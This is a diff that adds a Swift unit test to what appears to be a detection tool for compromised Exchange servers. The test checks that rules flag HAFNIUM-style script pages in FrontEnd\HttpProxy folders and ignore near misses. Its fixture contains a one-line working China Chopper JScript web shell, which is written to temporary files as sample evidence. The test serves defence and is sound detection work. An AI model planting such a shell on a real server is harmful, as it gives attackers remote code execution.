@@ -87,6 +87,43 @@ import Testing
         #expect(by["EX09"]?.summary.contains("no dated logs of EX09") == true)
     }
 
+    /// HAFNIUM's `FrontEnd\HttpProxy\OAB\log.aspx` and a page in `HttpProxy\ecp\` fire in a listing and as
+    /// collected copies (whose URL, `/OAB/log.aspx`, says nothing of the folder): the content rule reads them too.
+    /// Near misses: standard auth pages, a `web.config` there, pages under `Logging\HttpProxy\` and the back
+    /// end's `ClientAccess\ecp\`.
+    @Test func pagesInFrontEndHttpProxyProtocolFoldersFire() throws {
+        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("exhunt-httpproxy-page-\(UUID().uuidString)")
+        defer { try? FileManager.default.removeItem(at: dir) }
+        let v15 = #"C:\Program Files\Microsoft\Exchange Server\V15"#
+        let rows = [#"FrontEnd\HttpProxy\OAB\log.aspx"#, #"FrontEnd\HttpProxy\ecp\x.aspx"#,
+                    #"FrontEnd\HttpProxy\owa\auth\logon.aspx"#, #"FrontEnd\HttpProxy\ecp\auth\TimeoutLogoff.aspx"#,
+                    #"FrontEnd\HttpProxy\OAB\web.config"#, #"Logging\HttpProxy\OAB\x.aspx"#, #"ClientAccess\ecp\default.aspx"#]
+        let listing = [#"#TYPE Selected.System.IO.FileInfo"#, #""FullName","Length","CreationTimeUtc","LastWriteTimeUtc""#]
+            + rows.map { #""\#(v15)\\#($0)","70","3/3/2021 7:01:13 AM","3/3/2021 7:01:13 AM""# }
+        let shell = #"<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>"#
+        var files = ["EX01/listings/files.csv": listing.joined(separator: "\r\n") + "\r\n"]
+        for page in ["FrontEnd/HttpProxy/OAB/log.aspx", "FrontEnd/HttpProxy/ecp/x.aspx", "Logging/HttpProxy/OAB/x.aspx"] {
+            files["EX02/C/Program Files/Microsoft/Exchange Server/V15/\(page)"] = shell
+        }
+        for (rel, text) in files {
+            let url = dir.appendingPathComponent(rel)
+            try FileManager.default.createDirectory(at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
+            try text.write(to: url, atomically: true, encoding: .utf8)
+        }
+        let s = EventStore()
+        _ = try EvidenceLoader(workers: 1).load(dir.path, into: s)
+        let f = RuleFixtures.run("webshell.file", on: s).map { "\($0.server) \($0.summary)" }.sorted()
+        #expect(f == [
+            #"EX01 C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB\log.aspx: script page under FrontEnd\HttpProxy\OAB\, a proxy folder where HAFNIUM dropped shells (created 3/3/2021 7:01:13 AM, written 3/3/2021 7:01:13 AM, 70 bytes)"#,
+            #"EX01 C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\ecp\x.aspx: script page under FrontEnd\HttpProxy\ecp\, a proxy folder where HAFNIUM dropped shells (created 3/3/2021 7:01:13 AM, written 3/3/2021 7:01:13 AM, 70 bytes)"#,
+            "EX02 EX02/C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/OAB/log.aspx: script page under FrontEnd\\HttpProxy\\OAB\\, a proxy folder where HAFNIUM dropped shells",
+            "EX02 EX02/C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/ecp/x.aspx: script page under FrontEnd\\HttpProxy\\ecp\\, a proxy folder where HAFNIUM dropped shells",
+        ])
+        let content = RuleFixtures.run("webshell.content", on: s).map(\.summary).sorted()
+        #expect(content.count == 3)
+        #expect(content.first?.hasPrefix("/OAB/log.aspx: China Chopper pattern") == true)
+    }
+
     @Test func lsassDumpFile() {
         let f = RuleFixtures.run("files.lsass-dump", on: store)
         #expect(f.count == 1)
